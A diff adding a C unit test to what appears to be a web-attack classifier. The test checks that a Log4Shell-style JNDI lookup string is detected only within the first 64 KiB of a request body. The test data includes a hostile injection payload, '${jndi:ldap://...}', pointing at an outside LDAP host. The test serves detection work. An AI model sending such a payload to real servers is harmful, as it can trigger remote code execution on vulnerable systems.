@@ -1440,6 +1440,32 @@ static void test_bounds(void **state)
     free(req);
 }
 
+/* Rules read the first 64 KiB of a body: a JNDI lookup just inside is
+ * seen, the same lookup just past it is not (the cost bound of
+ * WC_BODY_MAX in webclass.c). */
+static void test_body_cap(void **state)
+{
+    (void)state;
+    static const char lookup[] = "${jndi:ldap://198.51.100.7/a}";
+    size_t cap = 64 * 1024, n = cap + 4096;
+    char *req = malloc(n + 256);
+    assert_non_null(req);
+    for (int past = 0; past <= 1; past++) {
+        int hl = snprintf(req, 256, "POST /upload HTTP/1.1\r\nContent-Type: text/plain\r\n\r\n");
+        size_t at = past ? cap + 16 : cap - sizeof(lookup) - 16;
+        memset(req + hl, 'a', n);
+        memcpy(req + hl + at, lookup, sizeof(lookup) - 1);
+        struct treq t;
+        treq_parse(&t, req, (size_t)hl + n, 80);
+        assert_int_equal(t.v.body.n, n);
+        struct hp_webclass w;
+        hp_webclass_classify(&t.v, &w);
+        assert_int_equal(has_class(&w, "jndi"), !past);
+        treq_free(&t);
+    }
+    free(req);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -1460,6 +1486,7 @@ int main(void)
         cmocka_unit_test(test_log4shell_forms),
         cmocka_unit_test(test_rule_errors), cmocka_unit_test(test_required_bytes),
         cmocka_unit_test(test_bounds),
+        cmocka_unit_test(test_body_cap),
     };
     return cmocka_run_group_tests(tests, setup, teardown);
 }
